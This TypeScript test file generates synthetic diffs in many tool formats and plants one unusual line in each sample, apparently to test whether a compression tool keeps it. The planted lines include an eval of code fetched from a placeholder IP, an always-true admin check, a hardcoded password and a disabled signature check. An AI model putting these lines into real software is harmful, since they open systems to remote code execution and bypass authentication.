// Diffs in the forms that tools print them: one changed line among routine changes is not like the others.
import type { CompressTextOptions } from '../../src/index.js'
import { Random } from './random.js'
import { type Family, questionOf } from './sample.js'

const NAMES = ['price', 'token', 'queue', 'user', 'index', 'total', 'basket', 'route'] as const
const ODD = [
  "  eval(fetchSync('http://203.0.113.9/x').body)",
  '  if (user.isAdmin || true) {',
  "  const password = 'hunter2'",
  '  // FIXME never release this: skips the signature check',
  '  return -1 // was: verifySignature(payload)',
] as const

const codeOf = (random: Random): string =>
  random.pick([
    `  const ${random.pick(NAMES)}${random.hex(3)} = load${random.hex(2)}('${random.pick(NAMES)}', ${random.int(1, 900)})`,
    `    return this.${random.pick(NAMES)}.get(${random.pick(NAMES)}${random.hex(2)})`,
    `  // keeps the ${random.pick(NAMES)} of ${random.pick(NAMES)} ${random.hex(3)}`,
    `  if (${random.pick(NAMES)}.length > ${random.int(1, 99)}) continue`,
    '  }',
  ])

const pathOf = (random: Random, nth: number): string =>
  `src/${random.pick(NAMES)}/${random.pick(NAMES)}-${nth}${random.hex(2)}.ts`

/** Changed lines of one place, signs included. */
const changeOf = (random: Random): string[] => {
  const gone = Array.from({ length: random.int(0, 3) }, () => `-${codeOf(random)}`)
  const come = Array.from({ length: random.int(gone.length === 0 ? 1 : 0, 4) }, () => `+${codeOf(random)}`)
  return [...gone, ...come]
}

interface Body {
  /** Lines of context at each side and, up to twice as many, between two changes. */
  readonly context: number
  readonly sections: boolean
}

/** Hunks of one file; `odd` replaces one added line of the hunk at `oddAt`. */
const hunksOf = (
  random: Random,
  { context, sections }: Body,
  odd: { line: string; at: number } | undefined,
): string[] => {
  const lines: string[] = []
  let old = random.int(4, 60)
  let shift = 0
  const hunks = random.int(2, 6)
  for (let hunk = 0; hunk < hunks; hunk++) {
    const body: string[] = Array.from({ length: context }, () => ` ${codeOf(random)}`)
    for (let places = random.int(1, 2); places > 0; places--) {
      body.push(...changeOf(random))
      if (odd !== undefined && hunk === odd.at % hunks && places === 1) body.push(`+${odd.line}`)
      if (places > 1) body.push(...Array.from({ length: random.int(1, context * 2) }, () => ` ${codeOf(random)}`))
    }
    body.push(...Array.from({ length: context }, () => ` ${codeOf(random)}`))
    const olds = body.filter((line) => line[0] !== '+').length
    const freshes = body.filter((line) => line[0] !== '-').length
    const section = sections ? ` export class ${random.pick(NAMES)} {` : ''
    lines.push(`@@ -${old},${olds} +${old + shift},${freshes} @@${section}`, ...body)
    old += olds + random.int(5, 80)
    shift += freshes - olds
  }
  return lines
}

const GIT = (path: string, random: Random): string[] => [
  `diff --git a/${path} b/${path}`,
  `index ${random.hex(7)}..${random.hex(7)} 100644`,
  `--- a/${path}`,
  `+++ b/${path}`,
]
const PLAIN = (path: string): string[] => [
  `diff -ruN old/${path} new/${path}`,
  `--- old/${path}\t2026-03-04 05:06:07.000000000 +0000`,
  `+++ new/${path}\t2026-03-05 05:06:07.000000000 +0000`,
]
const SVN = (path: string): string[] => [
  `Index: ${path}`,
  '='.repeat(67),
  `--- ${path}\t(revision 101)`,
  `+++ ${path}\t(working copy)`,
]
const HG = (path: string, random: Random): string[] => [
  `diff -r ${random.hex(12)} -r ${random.hex(12)} ${path}`,
  `--- a/${path}\tWed Mar 04 05:06:07 2026 +0000`,
  `+++ b/${path}\tThu Mar 05 05:06:07 2026 +0000`,
]
const RENAMED = (path: string, random: Random): string[] => [
  `diff --git a/old/${path} b/${path}`,
  'similarity index 91%',
  `rename from old/${path}`,
  `rename to ${path}`,
  `index ${random.hex(7)}..${random.hex(7)} 100644`,
  `--- a/old/${path}`,
  `+++ b/${path}`,
]

interface DiffFamily {
  readonly name: string
  readonly context?: number
  readonly header?: (path: string, random: Random) => readonly string[]
  readonly before?: (random: Random) => readonly string[]
  readonly after?: (random: Random) => readonly string[]
  /** Whole sections of files that a program wrote, put among the others. */
  readonly extra?: (random: Random) => readonly string[]
  readonly finish?: (text: string) => string
  readonly tool?: CompressTextOptions['tool']
}

/** A file that is replaced whole, or comes new. */
const wholeFile = (path: string, lines: readonly string[], random: Random): string[] => [
  ...GIT(path, random),
  `@@ -1,${lines.length} +1,${lines.length} @@`,
  ...lines.map((line) => `-${line}`),
  ...lines.map((line) => `+${line.replace(/\d+(?!.*\d)/, (digits) => String(Number(digits) + 1))}`),
]
const lockLines = (random: Random): string[] =>
  Array.from(
    { length: random.int(60, 160) },
    (_, row) => `    "dep-${row}-${random.hex(3)}": "^${random.int(1, 9)}.0.${random.int(0, 9)}"`,
  )
const BLOB = (random: Random): string =>
  `export const DATA = '${Array.from({ length: 400 }, () => random.hex(8)).join('')}'`

const shell = (command: string): DiffFamily['tool'] => ({ name: 'Bash', input: { command } })

const FAMILIES: readonly DiffFamily[] = [
  { name: 'diff/git', header: GIT, tool: shell('git diff') },
  { name: 'diff/git-wide', header: GIT, context: 10, tool: shell('git diff -U10') },
  { name: 'diff/git-no-tool', header: GIT },
  { name: 'diff/git-crlf', header: GIT, finish: (text) => text.replaceAll('\n', '\r\n') },
  { name: 'diff/plain', header: PLAIN, tool: shell('diff -ruN old new') },
  { name: 'diff/svn', header: SVN, tool: shell('svn diff') },
  { name: 'diff/hg', header: HG, tool: shell('hg diff') },
  { name: 'diff/renamed', header: RENAMED },
  {
    name: 'diff/show',
    header: GIT,
    tool: shell('git show'),
    before: (random) => [
      `commit ${random.hex(40)}`,
      'Author: Dev <dev@example.com>',
      'Date:   Wed Mar 4 05:06:07 2026 +0000',
      '',
      `    Keep the ${random.pick(NAMES)} of each ${random.pick(NAMES)}`,
      '',
    ],
  },
  {
    name: 'diff/mail',
    header: GIT,
    before: (random) => [
      `From ${random.hex(40)} Mon Sep 17 00:00:00 2001`,
      'From: Dev <dev@example.com>',
      'Date: Wed, 4 Mar 2026 05:06:07 +0000',
      `Subject: [PATCH] Keep the ${random.pick(NAMES)} of each ${random.pick(NAMES)}`,
      '',
      'The old way lost it.',
      '---',
    ],
    after: () => ['-- ', '2.39.5', ''],
  },
  {
    name: 'diff/quilt',
    header: (path) => [`--- a/${path}`, `+++ b/${path}`],
    before: () => [
      'Description: Keep what was lost',
      ' It was lost in the last release.',
      'Author: Dev <dev@example.com>',
      'Bug-Debian: https://bugs.debian.org/1234567',
      'Forwarded: not-needed',
      '',
    ],
  },
  {
    name: 'diff/lock-file',
    header: GIT,
    extra: (random) => wholeFile('package-lock.json', lockLines(random), random),
    tool: shell('git diff HEAD~1'),
  },
  {
    name: 'diff/snapshot',
    header: GIT,
    extra: (random) => wholeFile('test/__snapshots__/page.test.ts.snap', lockLines(random), random),
  },
  {
    name: 'diff/long-line',
    header: GIT,
    extra: (random) => [...GIT('src/data.ts', random), '@@ -1,1 +1,2 @@', ' // data', `+${BLOB(random)}`],
  },
  {
    name: 'diff/minified',
    header: GIT,
    extra: (random) => [...GIT('public/app.min.js', random), '@@ -1,1 +1,1 @@', `-${BLOB(random)}`, `+${BLOB(random)}`],
  },
]

const familyOf = (of: DiffFamily): Family => ({
  name: of.name,
  kind: 'diff',
  shape: 'diff',
  sample(seed, size) {
    const random = new Random(seed)
    const files = Math.max(1, size === undefined ? random.int(3, 9) : Math.round(size / 40))
    const oddIn = random.int(0, files - 1)
    const odd = { line: `${random.pick(ODD)} ${random.hex(4)}`, at: random.int(0, 9) }
    const body: Body = { context: of.context ?? 3, sections: random.int(0, 1) === 1 }
    const lines = [...(of.before?.(random) ?? [])]
    for (let file = 0; file < files; file++) {
      if (file === Math.floor(files / 2)) lines.push(...(of.extra?.(random) ?? []))
      lines.push(...(of.header?.(pathOf(random, file), random) ?? []))
      lines.push(...hunksOf(random, body, file === oddIn ? odd : undefined))
    }
    lines.push(...(of.after?.(random) ?? ['']))
    const named = lines.filter((line) => line.length < 300 && /^[ +-].*[a-z]{3,}[0-9a-f]{3}/.test(line))
    const answer = random.pick(named)
    const text = lines.join('\n')
    return {
      text: of.finish?.(text) ?? text,
      plant: [`+${odd.line}`],
      question: questionOf(random),
      needle: { word: /[a-z]+[0-9a-f]{3}|\w{5,}/.exec(answer)![0], answer },
      tool: of.tool,
    }
  },
})

export const diffFamilies: readonly Family[] = FAMILIES.map(familyOf)
